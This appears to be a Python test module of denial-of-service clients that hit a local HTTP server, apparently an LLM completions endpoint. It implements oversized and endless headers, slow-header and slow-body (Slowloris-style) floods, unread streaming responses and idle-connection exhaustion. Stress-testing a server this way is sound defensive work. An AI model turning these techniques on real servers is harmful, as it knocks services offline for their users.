"""Clients that attack the HTTP edge of a server on this machine."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable
from contextlib import suppress

MIB = 1 << 20
NUM = 500  # clients of an attack
HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


class Attack:
    """Connections of one kind, until the block ends."""

    def __init__(self, url: str) -> None:
        self.port = int(url.rpartition(":")[2])
        self.sockets: list[socket.socket] = []
        self.is_over = threading.Event()
        self._threads: list[threading.Thread] = []

    def __enter__(self) -> Attack:
        return self

    def __exit__(self, *_: object) -> None:
        self.end()

    def end(self) -> None:
        """Disconnect all."""
        self.is_over.set()
        for thread in self._threads:
            thread.join()
        for each in self.sockets:
            each.close()

    def run(self, act: Callable[[Attack], None]) -> None:
        self._threads.append(threading.Thread(target=self._guarded, args=(act,)))
        self._threads[-1].start()

    def _guarded(self, act: Callable[[Attack], None]) -> None:
        with suppress(OSError):
            act(self)

    def connect(self, num: int, sent: bytes, receive_bytes: int = 0) -> None:
        for _ in range(num):
            if self.is_over.is_set():
                return
            with suppress(OSError):
                client = socket.socket()
                self.sockets.append(client)
                if receive_bytes:
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
                client.settimeout(5)
                client.connect(("127.0.0.1", self.port))
                client.sendall(sent)

    def drip(self, piece: bytes) -> None:
        while not self.is_over.wait(1.0):
            for each in self.sockets:
                with suppress(OSError):
                    each.send(piece)


def endless_header(attack: Attack) -> None:
    while not attack.is_over.is_set():
        with suppress(OSError), socket.create_connection(("127.0.0.1", attack.port)) as client:
            client.sendall(b"GET / HTTP/1.1\r\nX: ")
            for _ in range(64):
                client.sendall(bytes([120]) * MIB)


def many_headers(attack: Attack) -> None:
    head = b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(10_000)) + b"\r\n"
    while not attack.is_over.is_set():
        attack.connect(1, head)
        time.sleep(0.02)


def slow_headers(attack: Attack) -> None:
    attack.connect(NUM, b"GET / HTTP/1.1\r\nX: ")
    attack.drip(b"x")


def slow_bodies(attack: Attack) -> None:
    attack.connect(NUM, HEAD + b"Content-Length: 100000\r\n\r\n{")
    attack.drip(b" ")


def unread_streams(attack: Attack) -> None:
    body = {"prompt": ["word " * 400] * 8, "max_tokens": 1, "echo": True, "stream": True}
    raw = json.dumps(body).encode()
    attack.connect(NUM, HEAD + b"Content-Length: %d\r\n\r\n" % len(raw) + raw, receive_bytes=4096)


def idle_connections(attack: Attack) -> None:
    attack.connect(320, b"")


ATTACKS = [
    endless_header,
    many_headers,
    slow_headers,
    slow_bodies,
    unread_streams,
    idle_connections,
]
